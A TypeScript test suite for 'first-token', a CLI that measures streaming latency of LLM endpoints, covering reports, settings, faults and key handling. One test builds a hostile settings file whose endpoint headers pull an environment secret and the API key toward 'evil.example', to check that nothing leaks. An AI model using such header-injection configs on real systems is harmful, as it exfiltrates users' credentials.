import assert from 'node:assert/strict';
import { mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import path from 'node:path';
import type { Report } from '../../../src/report/report';
import { startSimulator, type StartedSimulator } from '../../../src/simulator/start';
import { dist, root, temporaryFolder, terminal, type Ended } from './terminal';

describe('the terminal tool', function () {
  this.timeout(60_000);
  const folder = temporaryFolder();
  let simulator: StartedSimulator;
  const run = (args: readonly string[], env: NodeJS.ProcessEnv = {}): Promise<Ended> => terminal(args, { cwd: folder.path, env }).ended;
  const quick = ['-n', '3', '--max-tokens', '8', '--warmup', '1'];

  before(async () => {
    simulator = await startSimulator({ script: path.join(dist, 'simulator.js') });
  });
  after(async () => {
    await simulator.stop();
    folder.dispose();
  });

  it('prints the report and nothing else with --json, in the documented form', async () => {
    const { code, stdout } = await run(['probe', '--endpoint', simulator.url, '--json', ...quick]);
    const report = JSON.parse(stdout) as Report;
    assert.equal(code, 0);
    assert.equal(report.schema, 'first-token/report@1');
    assert.equal(report.outcomes.ok, 3);
    assert.equal(report.summary.ttft?.n, 3);
    assert.equal(report.summary.ttft.unit, 'ms');
    assert.equal(report.samples.filter((s) => s.role === 'measured').length, 3);
    const [sample] = report.samples.filter((s) => s.role === 'measured');
    assert.equal(sample?.outputTokens.count, 8);
    assert.equal(sample.deltas.length, 8);
    assert.equal(sample.start >= 0, true);
    assert.ok((report.clockError?.n ?? 0) > 0);
    for (const name of ['throughput', 'goodput', 'attainment', 'verdict', 'cache', 'caveats', 'window', 'plan', 'endpoint', 'environment']) assert.ok(name in report, name);
  });

  it('prints strips and table for people, saves the report and shows it again', async () => {
    const saved = path.join(folder.path, 'a.jsonl');
    const probed = await run(['probe', '--endpoint', simulator.url, '--save', saved, ...quick]);
    assert.equal(probed.code, 0);
    assert.match(probed.stdout, /First token \(TTFT\)/);
    assert.match(probed.stdout, /Measuring error/);
    assert.ok(probed.stderr.includes(saved));
    const shown = await run(['show', saved]);
    const [head, ...rest] = shown.stdout.split('\n');
    assert.match(head!, /^a\.jsonl: probe at http:\/\/.*, model .*, \d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC$/);
    assert.equal(rest.join('\n'), `\n${probed.stdout}`);
    const json = await run(['show', saved, '--json']);
    assert.equal((JSON.parse(json.stdout) as Report).outcomes.ok, 3);
  });

  it('shows results of other tools under their names, and hands a plan over without its key', async () => {
    const foreign = path.join(root, 'test/fixtures/foreign/aiperf.synthetic.json');
    const shown = await run(['show', foreign]);
    assert.equal(shown.code, 0);
    assert.match(shown.stdout, /A result of AIPerf/);
    assert.equal((JSON.parse((await run(['show', foreign, '--json'])).stdout) as { schema: string }).schema, 'first-token/foreign@1');
    const handed = await run(['hand-over', '--tool', 'vllm', '--endpoint', 'https://api.example.com', '--model', 'm', '-n', '50', '--rate', '3'], { FIRST_TOKEN_API_KEY: 'sk-secret' });
    assert.equal(handed.code, 0);
    assert.match(handed.stdout, /--request-rate 3 \\\n/);
    assert.match(handed.stdout, /OPENAI_API_KEY="\$FIRST_TOKEN_API_KEY"/);
    assert.ok(!`${handed.stdout}${handed.stderr}`.includes('sk-secret'));
    assert.match(handed.stdout, /about \d+ tokens each/);
    const braces = path.join(folder.path, 'claims.prompt.md');
    writeFileSync(braces, 'Today is {{date}}.\n');
    assert.match((await run(['hand-over', '--tool', 'k6', braces, '--endpoint', 'http://127.0.0.1:1/v1'])).stderr, /as written, as there is no value for it: \{\{date\}\}/);
    for (const wrong of [['--tool', 'ab'], [], ['--tool', 'vllm', '--demo'], ['--tool', 'vllm', '--endpoint', 'http://h', '--rate', '0'], ['--tool', 'sglang', '--endpoint', 'http://h/v1/messages']]) assert.equal((await run(['hand-over', ...wrong])).code, 2, wrong.join(' '));
  });

  it('starts and ends the demo endpoint, and shows the last report without a name', async () => {
    const demo = await run(['probe', '--demo', ...quick]);
    assert.equal(demo.code, 0);
    const shown = await run(['show']);
    assert.match(shown.stdout, /^\d{4}-.*\.first-token\.jsonl: probe at demo/);
    assert.ok(shown.stdout.endsWith(`\n\n${demo.stdout}`));
  });

  it('tells the flags of each command within 80 columns, those it uses', async () => {
    const overview = await run(['help']);
    const names = [...overview.stdout.matchAll(/^ {2}([a-z-]+) {2}/gm)].map((match) => match[1]!);
    assert.ok(names.length > 10, names.join());
    for (const name of names) {
      const { stdout, code } = await run(['help', name]);
      assert.equal(code, 0);
      assert.equal(stdout, (await run([name, '--help'])).stdout, name);
      for (const line of stdout.split('\n')) assert.ok(line.length <= 80, `${name}: ${line}`);
      assert.doesNotMatch(stdout, /\S\n {2}--lab/, name);
    }
    assert.equal((await run(['help', 'nothing'])).code, 2);
    const encoder = (await run(['encoder', '--help'])).stdout;
    assert.doesNotMatch(encoder, /--(max-tokens|max-total-tokens|cache|objective|slo-ttft|attainment|api) /);
    assert.match((await run(['encoder', '--demo', '--max-tokens', '5'])).stderr, /Unknown option '--max-tokens'/);
  });

  // What one test leaves must not be the settings of the next.
  afterEach(() => { rmSync(path.join(folder.path, '.vscode'), { recursive: true, force: true }); });

  it('sends a prompt file', async () => {
    writeFileSync(path.join(folder.path, 'p.txt'), 'Say something about latency.\n');
    const { stdout } = await run(['probe', 'p.txt', '--endpoint', simulator.url, '--json', ...quick]);
    assert.deepEqual((JSON.parse(stdout) as Report).plan.prompt.name, 'p.txt');
  });

  it('takes endpoint, SLO and probe settings from .vscode/settings.json', async () => {
    mkdirSync(path.join(folder.path, '.vscode'), { recursive: true });
    const file = path.join(folder.path, '.vscode', 'settings.json');
    writeFileSync(file, `{ // a comment\n "firstToken.endpoints": [{ "name": "sim", "url": "${simulator.url}" }], "firstToken.slo": { "ttft": 0.001 }, "firstToken.probe": { "requests": 80, "maxTokens": 2 }, }`);
    const { code, stdout } = await run(['probe', '--endpoint', 'sim', '--json', '-c', '4']);
    const report = JSON.parse(stdout) as Report;
    assert.equal(report.plan.requests, 80);
    assert.deepEqual([report.attainment?.good, report.attainment?.due], [0, 80]);
    // A busy machine may be the limit itself, which withholds the verdict.
    assert.equal(report.verdict, report.caveats.some(({ kind }) => kind === 'client-bottleneck') ? null : 'missed');
    assert.equal(code, report.verdict === 'missed' ? 1 : 0);
    const unknown = await run(['probe', '--endpoint', 'nope']);
    assert.equal(unknown.code, 2);
    assert.match(unknown.stderr, /no endpoint "nope".*there are: sim/s);
    writeFileSync(file, '{ "firstToken.endpoints": [ }');
    assert.match((await run(['probe', '--endpoint', 'sim'])).stderr, /settings\.json line 1 is not valid JSON/);
    writeFileSync(file, '{ "firstToken.probe": { "requests": "many" } }');
    const wrongType = await run(['probe', '--endpoint', simulator.url]);
    assert.equal(wrongType.code, 2);
    assert.match(wrongType.stderr, /firstToken\.probe\.requests/);
    writeFileSync(file, '{ "firstToken.slo": 5 }');
    assert.match((await run(['probe', '--endpoint', simulator.url])).stderr, /firstToken\.slo must be an object/);
    writeFileSync(file, '{}');
  });

  describe('bad input', () => {
    const usage: [string, string[], RegExp][] = [
      ['a URL without a scheme', ['probe', '--endpoint', '127.0.0.1:8000'], /has no scheme: write http:\/\/127\.0\.0\.1:8000/],
      ['another scheme', ['probe', '--endpoint', 'ftp://h'], /use http:\/\/ or https:\/\//],
      ['no endpoint at all', ['probe'], /--endpoint URL, or --demo/],
      ['an unknown flag', ['probe', '--demo', '--fast'], /--fast/],
      ['an unknown command', ['prob'], /There is no command "prob"/],
      ['a count that is none', ['probe', '--demo', '-n', 'x'], /-n takes a whole number/],
      ['an unknown API', ['probe', '--demo', '--api', 'soap'], /--api takes auto, openai-chat/],
      ['an unknown fault', ['probe', '--demo', '--fault', 'rain'], /Fault "rain" is not known/],
      ['a missing prompt file', ['probe', 'none.md', '--demo'], /none\.md cannot be read/],
      ['a missing report', ['show', 'none.jsonl'], /none\.jsonl cannot be read/],
      ['a missing recording', ['decode', 'none.sse'], /none\.sse cannot be read/],
    ];
    for (const [name, args, message] of usage) {
      it(`${name}: exit code 2 and a message`, async () => {
        const { code, stdout, stderr } = await run(args);
        assert.equal(code, 2);
        assert.match(stderr, message);
        assert.equal(stdout, '');
      });
    }

    it('an empty, a binary and a huge prompt file', async () => {
      for (const [name, content, message] of [['empty.txt', ' \n', /is empty/], ['binary.txt', Buffer.from([1, 0, 2]), /binary file/], ['huge.txt', 'x'.repeat(5_000_001), /more than 5 MB/]] as const) {
        writeFileSync(path.join(folder.path, name), content);
        const { code, stderr } = await run(['probe', name, '--endpoint', simulator.url]);
        assert.equal(code, 2, name);
        assert.match(stderr, message);
      }
    });

    it('a report of another version, one that is none, and a cut-off one', async () => {
      const file = path.join(folder.path, 'r.jsonl');
      writeFileSync(file, '{"schema":"first-token/report@7"}');
      assert.match((await run(['show', file])).stderr, /report@7|version/);
      writeFileSync(file, 'hello');
      assert.equal((await run(['show', file])).code, 2);
      rmSync(file);
      const { stdout } = await run(['probe', '--endpoint', simulator.url, '--save', file, ...quick]);
      assert.ok(stdout.length > 0);
      const text = readFileSync(file, 'utf8');
      writeFileSync(file, text.slice(0, text.lastIndexOf('\n', text.length - 2) - 50));
      const cut = await run(['show', file]);
      assert.equal(cut.code, 0);
      assert.match(cut.stdout, /First token/);
    });

    it('a closed output: the report is not lost', async () => {
      const { child, ended } = terminal(['probe', '--endpoint', simulator.url, '--json', '-n', '30', '--max-tokens', '60'], { cwd: folder.path });
      child.stdout?.destroy();
      const { code, stderr } = await ended;
      assert.equal(code, 0);
      const file = /report is in (\S+)/.exec(stderr)?.[1];
      assert.ok(file !== undefined, stderr);
      assert.equal((JSON.parse((await run(['show', file, '--json'])).stdout) as Report).outcomes.ok, 30);
    });
  });

  describe('failures of the endpoint', () => {
    const cases: [string, RegExp][] = [
      ['status:401', /does not accept the key[\s\S]*FIRST_TOKEN_API_KEY/],
      ['status:403', /HTTP 403/],
      ['status:404', /HTTP 404/],
      ['status:429:2', /Too many requests[\s\S]*wait 2/],
      ['status:500', /HTTP 500/],
      ['html', /HTML page/],
      ['error-frame', /error inside the stream/],
      ['cut', /end mark/],
      ['truncate', /end mark/],
      ['empty', /no token/],
      ['malformed', /not what this API sends/],
    ];
    for (const [fault, words] of cases) {
      it(`${fault}: exit code 3, in words`, async () => {
        const { code, stdout } = await run(['probe', '--demo', '--fault', fault, ...quick]);
        assert.equal(code, 3);
        assert.match(stdout.replace(/\s+/g, ' '), words);
      });
    }

    it('a stall and a missing first token end by the time-outs', async () => {
      const stall = await run(['probe', '--demo', '--fault', 'stall', '--timeout-stall', '200', ...quick, '--json']);
      assert.equal((JSON.parse(stall.stdout) as Report).outcomes['timeout-stall'], 3);
      const hang = await run(['probe', '--demo', '--fault', 'hang', '--timeout-first-token', '200', ...quick, '--json']);
      assert.equal((JSON.parse(hang.stdout) as Report).outcomes['timeout-first-token'], 3);
      assert.equal(hang.code, 3);
    });

    it('a JSON answer to stream: true counts, without a first token', async () => {
      const { stdout } = await run(['probe', '--demo', '--fault', 'json', ...quick, '--json']);
      const report = JSON.parse(stdout) as Report;
      assert.equal(report.outcomes['not-streaming'], 3);
      assert.equal(report.summary.ttft, null);
      assert.equal(report.summary.tpot, null);
    });

    it('a huge frame and bytes that are not UTF-8 are measured', async () => {
      for (const fault of ['huge', 'bad-utf8']) {
        const { stdout } = await run(['probe', '--demo', '--fault', fault, ...quick, '--json']);
        assert.equal((JSON.parse(stdout) as Report).outcomes.ok, 3, fault);
      }
    });

    it('a refused field is dropped in the warm-up and remembered; without one the attempt is outside the window', async () => {
      for (const warmup of ['1', '0']) {
        const { stdout } = await run(['probe', '--demo', '--fault', 'refuse:stream_options', '-n', '3', '--max-tokens', '8', '--warmup', warmup, '--json']);
        const report = JSON.parse(stdout) as Report;
        assert.equal(report.outcomes.ok, 3);
        assert.equal(report.samples.filter((s) => s.role === 'negotiation').length, 1);
        assert.ok(report.endpoint.refusedFields.some((field) => field.startsWith('stream_options')));
      }
    });

    it('a refused connection, an unknown host, a server that does not speak TLS and a prompt over the context', async () => {
      const closed = await new Promise<number>((resolve) => {
        const server = net.createServer().listen(0, '127.0.0.1', () => {
          const { port } = server.address() as net.AddressInfo;
          server.close(() => {
            resolve(port);
          });
        });
      });
      const outcomes = async (url: string): Promise<Report['outcomes']> => (JSON.parse((await run(['probe', '--endpoint', url, '--json', ...quick])).stdout) as Report).outcomes;
      assert.ok(((await outcomes(`http://127.0.0.1:${closed}`)).connect ?? 0) > 0);
      assert.ok(((await outcomes('http://no-such-host.invalid')).dns ?? 0) > 0);
      assert.ok(((await outcomes(simulator.url.replace('http:', 'https:'))).tls ?? 0) > 0);
      writeFileSync(path.join(folder.path, 'long.txt'), 'word '.repeat(200_000));
      const { code, stdout } = await run(['probe', 'long.txt', '--endpoint', simulator.url, ...quick]);
      assert.equal(code, 3);
      assert.match(stdout, /context|maximum/i);
    });
  });

  describe('keys', () => {
    const key = 'sk-canary-7f3a91';
    /** A server that notes what it was sent and refuses it. */
    async function noting(use: (url: string, seen: string[]) => Promise<void>): Promise<void> {
      const seen: string[] = [];
      const server = http.createServer((request, response) => {
        seen.push(JSON.stringify(request.headers));
        response.writeHead(401, { 'content-type': 'application/json' }).end(`{"error":{"message":"bad key ${request.headers.authorization ?? ''}"}}`);
      });
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      await use(`http://127.0.0.1:${(server.address() as net.AddressInfo).port}`, seen);
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    }

    it('goes to a typed URL, and never into output, report or state', async () => {
      await noting(async (url, seen) => {
        const saved = path.join(folder.path, 'k.jsonl');
        const { stdout, stderr } = await run(['probe', '--endpoint', url, '--save', saved, ...quick], { FIRST_TOKEN_API_KEY: key });
        assert.ok(seen.some((headers) => headers.includes(`Bearer ${key}`)));
        for (const text of [stdout, stderr, readFileSync(saved, 'utf8')]) assert.ok(!text.includes(key));
        for (const name of readdirSync(folder.path, { recursive: true, withFileTypes: true })) {
          if (name.isFile()) assert.ok(!readFileSync(path.join(name.parentPath, name.name), 'latin1').includes(key), name.name);
        }
      });
    });

    it('a hostile settings file gets no key and no environment variable', async () => {
      // The noting server is the proxy, so the host in the settings need not exist and is not loopback.
      await noting(async (url, seen) => {
        const settings = path.join(folder.path, '.vscode', 'settings.json');
        mkdirSync(path.dirname(settings), { recursive: true });
        writeFileSync(settings, JSON.stringify({ 'firstToken.endpoints': [{ name: 'evil', url: 'http://evil.example', headers: { 'x-steal': '${env:SECRET}', authorization: 'Bearer ${env:FIRST_TOKEN_API_KEY}' } }] }));
        const env = { FIRST_TOKEN_API_KEY: key, SECRET: 'hidden-value', HTTP_PROXY: url };
        const { stderr } = await run(['probe', '--endpoint', 'evil', ...quick], env);
        assert.match(stderr, /key was not sent/);
        assert.match(stderr, /--allow-env SECRET/);
        assert.ok(seen.length > 0, 'the request went out');
        assert.ok(seen.every((headers) => !headers.includes(key) && !headers.includes('hidden-value')));
        const bound = await run(['probe', '--endpoint', 'evil', ...quick], { ...env, FIRST_TOKEN_API_KEY_ORIGIN: 'http://evil.example' });
        assert.doesNotMatch(bound.stderr, /key was not sent/);
        assert.ok(seen.some((headers) => headers.includes(key)));
        writeFileSync(settings, '{}');
      });
    });
  });

  describe('stopping', () => {
    it('Ctrl-C keeps what was measured', async () => {
      const { child, ended } = terminal(['probe', '--endpoint', simulator.url, '--json', '-n', '2000', '--max-tokens', '30'], { cwd: folder.path });
      await until(() => linesOfNewestReport() > 3);
      child.kill('SIGINT');
      const { stdout } = await ended;
      const report = JSON.parse(stdout) as Report;
      assert.ok((report.outcomes.ok ?? 0) >= 1);
      assert.ok((report.outcomes.ok ?? 0) < 2000);
      assert.ok(report.caveats.some((c) => c.kind === 'stopped'));
    });

    it('a killed process loses only what was in flight', async () => {
      const { child, ended } = terminal(['probe', '--endpoint', simulator.url, '-n', '2000', '--max-tokens', '30'], { cwd: folder.path });
      await until(() => linesOfNewestReport() > 5);
      child.kill('SIGKILL');
      await ended;
      const shown = await run(['show', '--json']);
      assert.equal(shown.code, 0);
      const report = JSON.parse(shown.stdout) as Report;
      assert.ok(report.samples.length >= 4);
    });

    function linesOfNewestReport(): number {
      const reports = path.join(folder.path, 'state', 'first-token', 'reports');
      try {
        const newest = readdirSync(reports).sort().at(-1);
        return newest === undefined ? 0 : readFileSync(path.join(reports, newest), 'utf8').split('\n').filter((line) => line !== '').length;
      } catch {
        return 0;
      }
    }

    async function until(condition: () => boolean): Promise<void> {
      // A report of an earlier test may be the newest until the new one is there.
      await new Promise((resolve) => setTimeout(resolve, 1500));
      while (!condition()) await new Promise((resolve) => setTimeout(resolve, 50));
    }
  });
});
